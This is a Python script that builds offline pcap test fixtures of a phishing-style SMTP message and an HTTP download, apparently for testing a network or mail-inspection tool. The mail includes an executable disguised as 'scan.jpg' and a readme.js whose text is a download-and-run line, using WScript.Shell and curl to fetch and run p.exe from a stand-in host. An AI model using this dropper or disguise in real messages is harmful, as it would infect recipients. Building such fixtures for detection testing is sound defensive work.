#!/usr/bin/env python3
"""Crafts the mail-attachment and late-download lab captures of Tests/Fixtures/lab/ offline with scapy
(nothing is sent; fixed timestamps and a seeded RNG, so a rerun gives byte-identical files).

mail-smtp-segmented.pcap  SMTP to 10.30.0.60:25 from 203.0.113.90 (an outside relay), the message in
                          90-byte segments (lines and a boundary cut across them, one segment retransmitted):
                          nested multipart, an 8bit text part, a PE under the RFC 2047 name "scan.jpg"
                          (Q-encoded) and a `readme.js` script in quoted-printable, a RFC 2231 continued
                          name (`Angebot Teil*0*=…`) for a PDF
dl-late-exe.pcap          one keep-alive connection, 600 GETs of small HTML pages from intranet.example;
                          request 580 fetches `setup.pdf.exe` (PE): past the HTTP table's 500 rows

    python3 Tests/Lab/make-mail-captures.py        # from any directory; needs scapy
"""
import base64
import importlib.util
import os
import quopri

HERE = os.path.dirname(os.path.abspath(__file__))
spec = importlib.util.spec_from_file_location("downloads", os.path.join(HERE, "make-download-captures.py"))
downloads = importlib.util.module_from_spec(spec)
spec.loader.exec_module(downloads)
Capture, pe = downloads.Capture, downloads.pe
from scapy.all import IP, TCP, Raw  # noqa: E402


def lines(b):
    return b.replace(b"\n", b"\r\n")


def smtp_message():
    exe = base64.encodebytes(pe(61, 5000)).replace(b"\n", b"\r\n")
    script = quopri.encodestring(b"var s = new ActiveXObject('WScript.Shell');\nvar u = 'http://198.51.100.9/p.exe';\n"
                                 b"s.Run('cmd /c curl -o %TEMP%\\\\p.exe ' + u + ' && %TEMP%\\\\p.exe', 0);\n" * 3)
    pdf = base64.encodebytes(b"%PDF-1.5\n" + b"% Angebot\n" * 60 + b"%%EOF\n").replace(b"\n", b"\r\n")
    return (lines(b"From: \"Scanner\" <scanner@copier-service.example>\nTo: <clerk@lab.example>\nSubject: =?utf-8?Q?Scan_f=C3=BCr_Sie?=\n"
                  b"MIME-Version: 1.0\nContent-Type: multipart/mixed;\n\tboundary=\"==outer==\"\n\nThis is a multi-part message.\n"
                  b"--==outer==\nContent-Type: multipart/alternative; boundary=alt1\n\n--alt1\n"
                  b"Content-Type: text/plain; charset=utf-8\nContent-Transfer-Encoding: 8bit\n\nIhr Scan ist angeh\xc3\xa4ngt.\n"
                  b".Punkt am Anfang\n--alt1--\n\n--==outer==\nContent-Type: image/jpeg; name=\"=?utf-8?Q?scan=2Ejpg?=\"\n"
                  b"Content-Disposition: attachment; filename=\"=?utf-8?Q?scan=2Ejpg?=\"\nContent-Transfer-Encoding: base64\n\n")
            + exe + lines(b"--==outer==\nContent-Type: application/javascript\nContent-Disposition: attachment; filename=readme.js\n"
                          b"Content-Transfer-Encoding: quoted-printable\n\n") + lines(script)
            + lines(b"\n--==outer==\nContent-Type: application/pdf\nContent-Disposition: attachment;\n filename*0*=utf-8''Angebot%20Teil;\n"
                    b" filename*1=\"_1.pdf\"\nContent-Transfer-Encoding: base64\n\n") + pdf + b"--==outer==--\r\n")


def stuffed(message):
    return b"".join(b"." + l if l.startswith(b".") else l for l in message.splitlines(keepends=True))


def smtp():
    c = Capture(60)
    client, server, cport = "203.0.113.90", "10.30.0.60", 40125
    seq = c.connect(client, server, cport, 25)
    c.say(seq, False, client, server, cport, 25, b"220 mx.lab.example ESMTP\r\n")
    for cmd, answer in [(b"EHLO relay.copier-service.example\r\n", b"250-mx.lab.example\r\n250 8BITMIME\r\n"),
                        (b"MAIL FROM:<scanner@copier-service.example>\r\n", b"250 2.1.0 Ok\r\n"),
                        (b"RCPT TO:<clerk@lab.example>\r\n", b"250 2.1.5 Ok\r\n"), (b"DATA\r\n", b"354 End data with <CR><LF>.<CR><LF>\r\n")]:
        c.say(seq, True, client, server, cport, 25, cmd)
        c.say(seq, False, client, server, cport, 25, answer)
    data = stuffed(smtp_message()) + b".\r\n"
    for n, i in enumerate(range(0, len(data), 90)):
        piece = data[i:i + 90]
        if n == 7:  # a retransmission of the segment before
            prev = data[i - 90:i]
            c.add(IP(src=client, dst=server) / TCP(sport=cport, dport=25, flags="PA", seq=seq[0] - 90, ack=seq[1]) / Raw(prev))
        c.say(seq, True, client, server, cport, 25, piece)
    c.say(seq, False, client, server, cport, 25, b"250 2.0.0 Ok: queued as 4F1A2\r\n")
    c.say(seq, True, client, server, cport, 25, b"QUIT\r\n")
    c.say(seq, False, client, server, cport, 25, b"221 2.0.0 Bye\r\n")
    c.close(seq, client, server, cport, 25)
    c.write("mail-smtp-segmented.pcap")


def late_download():
    c = Capture(61)
    client, server, cport = "10.30.0.61", "10.30.0.8", 51000
    seq = c.connect(client, server, cport, 80)
    for n in range(600):
        if n == 579:
            target, head, body = b"/files/setup.pdf.exe", b"Content-Type: application/octet-stream\r\n", pe(62, 3000)
        else:
            target, head, body = b"/wiki/page%d.html" % n, b"Content-Type: text/html\r\n", b"<html><body>page %d</body></html>" % n
        c.say(seq, True, client, server, cport, 80,
              b"GET %s HTTP/1.1\r\nHost: intranet.example\r\nUser-Agent: %s\r\n\r\n" % (target, downloads.BROWSER))
        response = b"HTTP/1.1 200 OK\r\n" + head + b"Content-Length: %d\r\n\r\n" % len(body) + body
        for i in range(0, len(response), 1400):
            c.say(seq, False, client, server, cport, 80, response[i:i + 1400])
    c.close(seq, client, server, cport, 80)
    c.write("dl-late-exe.pcap")


if __name__ == "__main__":
    smtp()
    late_download()
